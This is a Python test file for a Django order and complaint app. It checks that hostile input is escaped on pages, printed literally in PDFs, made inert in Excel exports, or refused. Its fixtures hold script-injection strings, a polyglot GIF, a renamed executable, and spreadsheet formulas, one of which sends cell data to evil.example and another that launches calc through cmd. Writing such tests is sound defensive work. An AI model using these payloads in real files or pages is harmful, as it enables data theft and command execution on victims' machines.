"""Hostile input: markup and formulas in free text, bad files, malformed values, Unicode edge cases.

Text goes in through the services (as a clerk's form or the API would put it) and must
come out as text: escaped on pages, literal in PDFs, inert in spreadsheets.
"""

import io
import shutil
import subprocess

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils.html import escape
from import_export.formats.base_formats import XLSX
from openpyxl import load_workbook

from liaison.core import clock
from liaison.core.errors import LiaisonError
from liaison.core.export import inert
from liaison.core.models import Attachment
from liaison.core.roles import Role
from liaison.core.services import attachment_add
from liaison.customers.models import Customer
from liaison.customers.resources import CustomerResource, TextWidget
from liaison.customers.services import customer_save
from liaison.orders.models import Order
from liaison.quality.models import Complaint
from liaison.quality.services.complaints import complaint_register
from liaison.stock.tests.factories import ProductFactory

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


@pytest.fixture
def sales(user_with_role):
    return user_with_role(Role.SALES_ADMIN)


@pytest.fixture
def hostile_customer(db, sales):
    return customer_save(
        customer=Customer(
            registered_name=f"恒達{SCRIPT}", short_name=IMG, address=f"{IMG} 東莞", business_scope=SCRIPT,
            company_profile=FORMULAS[0], phone=FORMULAS[1], fax=FORMULAS[2], email="x@example.cn",
        ),
        actor=sales,
    )


@pytest.fixture
def hostile_complaint(hostile_customer, sales):
    return complaint_register(
        customer=hostile_customer, channel="phone", complaint_date=clock.today(),
        content=f"{SCRIPT}{IMG}{FORMULAS[3]}", lot=IMG, requested_remedy=SCRIPT, actor=sales,
    )


def _assert_escaped(html: str, *payloads: str) -> None:
    for payload in payloads:
        assert payload not in html, payload
        assert escape(payload) in html, payload


def test_pages_show_markup_as_text(client, sales, hostile_customer, hostile_complaint):
    client.force_login(sales)
    page = client.get(reverse("customers:detail", args=[hostile_customer.pk]))
    assert page.status_code == 200
    _assert_escaped(page.content.decode(), SCRIPT, IMG)
    page = client.get(reverse("quality:complaint", args=[hostile_complaint.pk]))
    assert page.status_code == 200
    _assert_escaped(page.content.decode(), SCRIPT, IMG)
    listing = client.get(reverse("admin:customers_customer_changelist"))
    _assert_escaped(listing.content.decode(), SCRIPT)


def test_api_returns_markup_as_data_in_json(api_client, sales, hostile_customer):
    api_client.force_authenticate(sales)
    response = api_client.get(f"/api/v1/customers/{hostile_customer.pk}/")
    assert response["Content-Type"].startswith("application/json")
    assert response.json()["registered_name"] == f"恒達{SCRIPT}"


def test_pdf_prints_markup_as_text(client, sales, hostile_complaint, settings):
    if shutil.which("pdftotext") is None:
        pytest.skip("pdftotext (Debian poppler-utils) is not installed; `make sysdeps` installs it")
    settings.LIAISON_PDF_STATIC_FONTS = False
    client.force_login(sales)
    response = client.get(reverse("documents:f6", args=[hostile_complaint.pk]))
    assert response.status_code == 200 and response["Content-Type"] == "application/pdf"
    text = subprocess.run(["pdftotext", "-", "-"], input=response.content, capture_output=True, check=True).stdout
    flat = "".join(text.decode().split())
    assert "<script>alert(1)</script>" in flat
    assert "&lt;" not in flat  # not double-escaped either


@pytest.mark.parametrize("text", [*FORMULAS, "\tcmd", "\rcmd"])
def test_inert_prefixes_every_formula_start(text):
    assert inert(text) == "'" + text
    assert inert("恒達五金") == "恒達五金" and inert(12) == 12


def test_excel_export_makes_formulas_inert_and_keeps_the_text(hostile_customer):
    dataset = CustomerResource().export(Customer.objects.filter(pk=hostile_customer.pk))
    workbook = load_workbook(io.BytesIO(XLSX().export_data(dataset)))
    cells = [cell for row in workbook.active.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)]
    assert cells
    for cell in cells:
        assert cell.data_type == "s", cell.value
        assert not cell.value.startswith(("=", "+", "-", "@", "\t", "\r")), cell.value
    values = {cell.value for cell in cells}
    assert {"'" + FORMULAS[0], "'" + FORMULAS[1], "'" + FORMULAS[2]} <= values  # the text itself is kept whole


def test_exported_inert_cells_import_back_as_typed(hostile_customer):
    assert TextWidget().clean("'" + FORMULAS[0]) == FORMULAS[0]
    assert TextWidget().clean("'quoted") == "'quoted"


# --- uploads -----------------------------------------------------------------------------------

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"


@pytest.mark.parametrize(
    ("name", "content", "code"),
    [
        ("invoice.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00" + b"\x00" * 200, "attachment_type_refused"),  # a .exe
        ("empty.pdf", b"", "attachment_empty"),
        ("page.pdf", b"<html><script>alert(1)</script></html>", "attachment_type_refused"),
    ],
    ids=["exe-renamed-pdf", "zero-bytes", "html-renamed-pdf"],
)
def test_bad_uploads_are_refused_and_nothing_is_kept(hostile_complaint, sales, name, content, code):
    with pytest.raises(LiaisonError) as refused:
        attachment_add(owner=hostile_complaint, upload=SimpleUploadedFile(name, content), actor=sales)
    assert refused.value.code == code
    assert not Attachment.objects.exists()


def test_oversized_upload_is_refused(hostile_complaint, sales, settings):
    settings.LIAISON_ATTACHMENT_MAX_BYTES = 1024
    with pytest.raises(LiaisonError) as refused:
        attachment_add(owner=hostile_complaint, upload=SimpleUploadedFile("big.pdf", PDF + b"0" * 2048), actor=sales)
    assert refused.value.code == "attachment_too_large"
    assert not Attachment.objects.exists()


def test_polyglot_is_served_as_its_real_type_never_as_a_page(client, hostile_complaint, sales):
    """A GIF whose bytes also read as HTML is kept as a GIF and downloaded as one: no sniffing, no script."""
    polyglot = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00;*/=1;<script>alert(1)</script>" + b"\x00" * 64
    attachment = attachment_add(owner=hostile_complaint, upload=SimpleUploadedFile("photo.html", polyglot), actor=sales)
    assert attachment.mime_type == "image/gif"
    client.force_login(sales)
    response = client.get(reverse("attachment-download", args=[attachment.pk]))
    assert response.status_code == 200
    assert response["Content-Type"] == "image/gif"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "script-src 'self'" in response["Content-Security-Policy"]


# --- malformed values on the API and forms -------------------------------------------------------


@pytest.mark.parametrize(
    ("field", "value"),
    [("complaint_date", "2026-13-45"), ("complaint_date", "yesterday"), ("complaint_date", "0000-00-00"),
     ("customer", "abc"), ("customer", 10**20)],
)
def test_api_malformed_values_name_the_field_and_create_nothing(api_client, sales, hostile_customer, field, value):
    api_client.force_authenticate(sales)
    body = {"customer": hostile_customer.pk, "channel": "phone", "complaint_date": "2026-01-05", "content": "x"}
    body[field] = value
    response = api_client.post("/api/v1/complaints/", body, format="json")
    assert response.status_code == 400, response.content
    assert field in response.json()["fields"]
    assert not Complaint.objects.exists()


@pytest.mark.parametrize("quantity", ["abc", "1e400", "-5", "NaN", "Infinity", "1" * 40])
def test_api_malformed_quantities_are_refused(api_client, sales, hostile_customer, quantity):
    product = ProductFactory()
    api_client.force_authenticate(sales)
    body = {
        "customer": hostile_customer.pk, "channel": "phone",
        "lines": [{"product": product.pk, "quantity": quantity, "required_date": "2026-12-31"}],
    }
    response = api_client.post("/api/v1/orders/", body, format="json")
    assert response.status_code == 400, response.content
    assert "lines" in response.json()["fields"]
    assert not Order.objects.exists()


def test_form_malformed_date_is_refused_with_the_field_named(client, sales, hostile_customer):
    client.force_login(sales)
    response = client.post(
        reverse("quality:register"),
        {"customer": hostile_customer.pk, "channel": "phone", "complaint_date": "2026-02-30", "content": "x"},
    )
    assert response.status_code == 200
    assert response.context["form"].errors.get("complaint_date")
    assert not Complaint.objects.exists()


# --- Unicode edge cases in Chinese names ----------------------------------------------------------

KEPT_NAMES = [
    "𠀋𠀌𡈽機電有限公司",  # supplementary-plane CJK (4 bytes in UTF-8)
    "華豐　五金",  # full-width space
    "e\u0301 café 瑞豐",  # combining acute accent
    "家\u200d具 五金",  # zero-width joiner
]


@pytest.mark.parametrize("name", KEPT_NAMES, ids=["supplementary", "fullwidth-space", "combining", "zwj"])
def test_unicode_names_are_kept_exactly_and_shown_escaped(api_client, client, sales, name):
    api_client.force_authenticate(sales)
    response = api_client.post("/api/v1/customers/", {"registered_name": name}, format="json")
    assert response.status_code == 201, response.content
    customer = Customer.objects.get(pk=response.json()["id"])
    assert customer.registered_name == name
    client.force_login(sales)
    assert name in client.get(reverse("customers:detail", args=[customer.pk])).content.decode()


@pytest.mark.parametrize("name", ["恒達\x00五金", "\x00"], ids=["nul-inside", "nul-only"])
def test_nul_byte_is_refused_cleanly_on_every_database(api_client, sales, name):
    api_client.force_authenticate(sales)
    response = api_client.post("/api/v1/customers/", {"registered_name": name}, format="json")
    assert response.status_code == 400, response.content
    assert "registered_name" in response.json()["fields"]
    assert not Customer.objects.exists()


def test_rtl_override_in_a_name_cannot_reorder_the_page(api_client, client, sales):
    """U+202E is kept as typed but shown isolated (bdi/escaped), never reversing the text after it."""
    name = "恒達\u202egnp.exe"
    api_client.force_authenticate(sales)
    response = api_client.post("/api/v1/customers/", {"registered_name": name}, format="json")
    assert response.status_code in {201, 400}, response.content
    if response.status_code == 400:
        assert "registered_name" in response.json()["fields"]
        return
    customer = Customer.objects.get(pk=response.json()["id"])
    assert customer.registered_name == name
    client.force_login(sales)
    assert client.get(reverse("customers:detail", args=[customer.pk])).status_code == 200


